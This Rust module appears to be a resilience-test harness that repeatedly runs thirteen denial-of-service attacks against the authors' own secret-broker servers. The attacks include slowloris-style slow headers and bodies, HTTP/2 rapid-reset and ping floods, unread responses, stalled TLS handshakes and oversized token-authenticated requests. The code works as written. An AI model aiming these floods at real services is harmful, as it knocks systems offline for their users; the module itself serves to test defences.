//! Peers that harm, each in its way, again and again.

mod frames;
mod tls;

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::{sleep, timeout};
use tokio_rustls::client::TlsStream;

use self::frames::{PREFACE, data, get, ping, post, reset, settings};

/// How long one attack lasts, and the pause after it.
const LASTS: Duration = Duration::from_secs(20);
const PAUSE: Duration = Duration::from_secs(4);
/// Between two steps of a slow one.
const STEP: Duration = Duration::from_millis(500);
/// Streams that an attack opens, more than any server of ours allows.
const STREAMS: u32 = 128;

static ATTACKS: AtomicU64 = AtomicU64::new(0);

/// How many were begun.
pub fn attacks() -> u64 {
    ATTACKS.load(Ordering::Relaxed)
}

/// Whom to harm.
#[derive(Clone)]
pub struct Target {
    address: SocketAddr,
    route: &'static str,
    tls: Arc<rustls::ClientConfig>,
    /// Of a neighbour with small rights.
    token: String,
}

impl Target {
    pub fn broker(address: SocketAddr, token: &str) -> Self {
        Self { address, route: "/v1/auth/jwt/login", tls: tls::anybody(), token: token.to_owned() }
    }

    pub fn fragment(address: SocketAddr) -> Self {
        Self { address, route: "/skb1", tls: tls::with_a_certificate(), token: String::new() }
    }

    /// One after the other, all that there are.
    pub fn attack(&self, number: usize) -> Attack {
        let attacks = if self.token.is_empty() { &ALL[..OF_STRANGERS] } else { &ALL[..] };
        attacks[number % attacks.len()]
    }

    async fn tcp(&self, number: usize) -> std::io::Result<TcpStream> {
        let socket = TcpSocket::new_v4()?;
        if self.address.ip().is_loopback() {
            // Eight addresses, none of which is the good client's.
            let last = 2 + u8::try_from(number % 8).unwrap();
            socket.bind((Ipv4Addr::new(127, 0, 0, last), 0).into())?;
        }
        socket.connect(self.address).await
    }

    async fn tls(&self, number: usize, protocol: &[u8]) -> std::io::Result<TlsStream<TcpStream>> {
        let mut config = (*self.tls).clone();
        config.alpn_protocols = vec![protocol.to_vec()];
        let name = rustls::pki_types::ServerName::try_from("127.0.0.1").unwrap();
        let stream = self.tcp(number).await?;
        tokio_rustls::TlsConnector::from(Arc::new(config)).connect(name, stream).await
    }
}

#[derive(Clone, Copy, Debug)]
pub enum Attack {
    Silent,
    HalfHandshake,
    Garbage,
    GarbageInside,
    SlowHead,
    OpenBody,
    OpenBodies,
    LargeBodies,
    UnreadAnswers,
    Pings,
    Resets,
    KnownBody,
    KnownUnread,
}

/// Further ones need a token.
const OF_STRANGERS: usize = 11;
const ALL: [Attack; 13] = [
    Attack::Silent,
    Attack::HalfHandshake,
    Attack::Garbage,
    Attack::GarbageInside,
    Attack::SlowHead,
    Attack::OpenBody,
    Attack::OpenBodies,
    Attack::LargeBodies,
    Attack::UnreadAnswers,
    Attack::Pings,
    Attack::Resets,
    Attack::KnownBody,
    Attack::KnownUnread,
];

impl Attack {
    /// For ever. What the server does to it is no failure.
    pub async fn repeat(self, target: Target, number: usize) {
        sleep(Duration::from_millis(4 * number as u64)).await; // not all at the same moment
        loop {
            ATTACKS.fetch_add(1, Ordering::Relaxed);
            let _ = timeout(LASTS, self.once(&target, number)).await;
            sleep(PAUSE).await;
        }
    }

    async fn once(self, target: &Target, number: usize) -> std::io::Result<()> {
        match self {
            Self::Silent => read_to_end(target.tcp(number).await?).await,
            Self::HalfHandshake => {
                let mut stream = target.tcp(number).await?;
                stream.write_all(&[22, 3, 1, 2, 0, 1, 0]).await?;
                read_to_end(stream).await
            }
            Self::Garbage => {
                let mut stream = target.tcp(number).await?;
                stream.write_all(&[0x80; 4096]).await?;
                read_to_end(stream).await
            }
            Self::GarbageInside => {
                let mut stream = target.tls(number, b"h2").await?;
                stream.write_all(&[0xff; 4096]).await?;
                read_to_end(stream).await
            }
            Self::SlowHead => {
                let stream = target.tls(number, b"http/1.1").await?;
                drip(stream, format!("GET {} HTTP/1.1\r\nx: ", target.route).as_bytes(), b"y").await
            }
            Self::OpenBody => {
                let stream = target.tls(number, b"http/1.1").await?;
                let head =
                    format!("PUT {} HTTP/1.1\r\nhost: x\r\ncontent-length: 90000\r\n\r\n", target.route);
                drip(stream, &[head.as_bytes(), &[b' '; 16_000]].concat(), b" ").await
            }
            Self::OpenBodies => self.streams(target, number, |id| data(id, &[b' '; 100])).await,
            Self::LargeBodies => self.streams(target, number, |id| data(id, &[b' '; 16_000])).await,
            Self::UnreadAnswers => self.answers(target, number).await,
            Self::Pings => self.flood(target, number, |_| ping()).await,
            Self::Resets => {
                self.flood(target, number, |id| [get("/log/checkpoint", id), reset(id)].concat()).await
            }
            Self::KnownBody => {
                let value = format!("{{\"data\":{{\"a\":\"{}\"}}}}", "x".repeat(1 << 20));
                let mut stream = self.known(target, number, "PUT", value.len()).await?;
                stream.write_all(value.as_bytes()).await?;
                read_to_end(stream).await
            }
            Self::KnownUnread => {
                let mut stream = self.known(target, number, "GET", 0).await?;
                stream.flush().await?;
                sleep(LASTS).await;
                Ok(())
            }
        }
    }

    /// The head of a request for what the neighbour may read and write.
    async fn known(
        self,
        target: &Target,
        number: usize,
        verb: &str,
        bytes: usize,
    ) -> std::io::Result<TlsStream<TcpStream>> {
        let mut stream = target.tls(number, b"http/1.1").await?;
        let head = format!(
            "{verb} /v1/secret/data/neighbour HTTP/1.1\r\nhost: x\r\nx-vault-token: {}\r\ncontent-length: {bytes}\r\n\r\n",
            target.token
        );
        stream.write_all(head.as_bytes()).await?;
        Ok(stream)
    }

    /// As many bodies as can be opened, each a piece longer with every step.
    async fn streams(
        self,
        target: &Target,
        number: usize,
        piece: impl Fn(u32) -> Vec<u8>,
    ) -> std::io::Result<()> {
        let mut stream = target.tls(number, b"h2").await?;
        stream.write_all(&[PREFACE, &settings(65_535)].concat()).await?;
        for id in ids() {
            stream.write_all(&post(target.route, 1 << 20, id)).await?;
        }
        loop {
            for id in ids() {
                stream.write_all(&piece(id)).await?;
            }
            step(&mut stream).await?;
        }
    }

    /// Asks for much, takes nothing, and stays alive.
    async fn answers(self, target: &Target, number: usize) -> std::io::Result<()> {
        let mut stream = target.tls(number, b"h2").await?;
        stream.write_all(&[PREFACE, &settings(0)].concat()).await?;
        for id in ids() {
            stream.write_all(&get("/v1/sys/seal-status", id)).await?;
        }
        loop {
            stream.write_all(&ping()).await?;
            step(&mut stream).await?;
        }
    }

    async fn flood(
        self,
        target: &Target,
        number: usize,
        frame: impl Fn(u32) -> Vec<u8>,
    ) -> std::io::Result<()> {
        let mut stream = target.tls(number, b"h2").await?;
        stream.write_all(&[PREFACE, &settings(65_535)].concat()).await?;
        for round in 0.. {
            let first = 1 + 2 * 50 * round;
            let frames: Vec<u8> = (0..50).flat_map(|at| frame(first + 2 * at)).collect();
            stream.write_all(&frames).await?;
            step(&mut stream).await?;
        }
        Ok(())
    }
}

fn ids() -> impl Iterator<Item = u32> {
    (0..STREAMS).map(|at| 1 + 2 * at)
}

/// Waits a step, and takes what has come so that the transport does not stand still.
async fn step(stream: &mut TlsStream<TcpStream>) -> std::io::Result<()> {
    let mut taken = vec![0; 16 << 10];
    match timeout(STEP, stream.read(&mut taken)).await {
        Ok(Ok(0)) => Err(std::io::ErrorKind::UnexpectedEof.into()),
        Ok(Ok(_)) => {
            sleep(STEP).await;
            Ok(())
        }
        Ok(Err(error)) => Err(error),
        Err(_) => Ok(()),
    }
}

async fn drip(mut stream: TlsStream<TcpStream>, head: &[u8], drop: &[u8]) -> std::io::Result<()> {
    stream.write_all(head).await?;
    loop {
        stream.write_all(drop).await?;
        step(&mut stream).await?;
    }
}

async fn read_to_end(mut stream: impl tokio::io::AsyncRead + Unpin) -> std::io::Result<()> {
    let mut taken = vec![0; 4 << 10];
    while stream.read(&mut taken).await? > 0 {}
    Ok(())
}
